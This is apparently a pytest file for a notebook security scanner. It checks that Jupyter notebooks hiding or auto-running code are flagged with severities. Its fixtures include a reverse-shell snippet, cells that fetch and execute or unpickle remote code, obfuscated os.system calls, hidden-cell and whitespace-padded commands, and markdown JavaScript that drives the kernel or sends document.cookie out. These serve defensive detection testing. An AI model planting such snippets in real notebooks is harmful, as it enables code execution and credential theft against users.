"""Notebooks that hide what they run, or whose page runs code."""

from __future__ import annotations

import json

import pytest
from tests.engine.artifacts.scanning import found as found_in


def notebook(*cells: dict[str, object]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def cell(
    source: str, metadata: dict[str, object] | None = None, outputs: list[object] | None = None
) -> bytes:
    return notebook(
        {
            "cell_type": "code",
            "source": source,
            "metadata": metadata or {},
            "outputs": outputs or [],
        }
    )


def found(content: bytes) -> dict[str, str]:
    return found_in(content, "a.ipynb")


@pytest.mark.parametrize(
    ("source", "operand"),
    [
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('echo')", "getattr(__import__(...))"),
        (
            "import socket, os\nsocket.socket().connect(('x', 1))\nos.dup2(3, 0); pty.spawn('sh')",
            "a shell over a connection",
        ),
    ],
)
def test_cells_that_hide_what_they_run(source: str, operand: str) -> None:
    assert found(cell(source)) == {f"config.notebook-hides {operand}": "high"}


@pytest.mark.parametrize(
    "source",
    [
        "import pickle, requests\nm = pickle.loads(requests.get('http://example.net').content)",
        "import pickle, urllib.request as u\npickle.load(u.urlopen('http://example.net'))",
        "import joblib\nm = joblib.load(urlopen('http://example.net/m.pkl'))",
        "import requests\nexec(requests.get('http://example.net/x.py').text)",
        "import pandas as pd, pickle\npd.read_pickle('https://example.net/a.pkl')",
        "import pickle, requests\nr = requests.get('http://example.net')\npickle.loads(r.content)",
    ],
)
def test_cells_that_load_what_they_fetch(source: str) -> None:
    assert set(found(cell(source)).values()) == {"medium"}
    assert found(cell("import pickle\nm = pickle.load(open('m.pkl', 'rb'))")) == {}


@pytest.mark.parametrize(
    "metadata",
    [{"jupyter": {"source_hidden": True}}, {"tags": ["hide-input"]}, {"hide_input": True}],
)
def test_a_program_started_in_a_hidden_cell(metadata: dict[str, object]) -> None:
    source = "import os\nos.system('echo')"
    assert found(cell(source, metadata)) == {"config.notebook-hidden-cell os.system": "medium"}
    assert found(cell(source)) == {"config.notebook-runs os.system": "low"}
    assert found(cell("x = 1" + " " * 300 + "; import os; os.system('echo')")) == {
        "config.notebook-hidden-cell os.system": "medium"
    }


def test_pages_that_make_the_kernel_run_code() -> None:
    press = "IPython.notebook.kernel.execute('print(1)')"
    output = {"data": {"application/javascript": press}}
    assert found(cell("1", outputs=[output])) == {
        "config.notebook-drives-kernel application/javascript": "high"
    }
    text = {"cell_type": "markdown", "source": f'<img src=x onerror="{press}">'}
    assert found(notebook(text)) == {"config.notebook-drives-kernel markdown": "high"}
    assert found(cell(f"%%javascript\n{press}")) == {"config.notebook-drives-kernel a cell": "high"}


def test_scripts_that_are_no_chart() -> None:
    text = {"cell_type": "markdown", "source": "<script>fetch('//x?' + document.cookie)</script>"}
    assert found(notebook(text)) == {"config.notebook-odd-script markdown": "medium"}
    output = {"data": {"application/javascript": "alert(1)"}}
    assert found(cell("1", outputs=[output])) == {
        "config.notebook-odd-script application/javascript": "medium"
    }
    output = {"data": {"text/html": "<script>Plotly.newPlot(1); fetch('x')</script>"}}
    assert found(cell("1", outputs=[output])) == {"config.notebook-script text/html": "low"}


def test_scripts_from_elsewhere() -> None:
    text = {"cell_type": "markdown", "source": "<script src='https://example.net/x'></script>"}
    assert found(notebook(text)) == {"config.notebook-odd-script markdown": "medium"}
    text["source"] = "<script src='https://cdn.jsdelivr.net/npm/vega@5'></script>"
    assert found(notebook(text)) == {"config.notebook-script markdown": "low"}
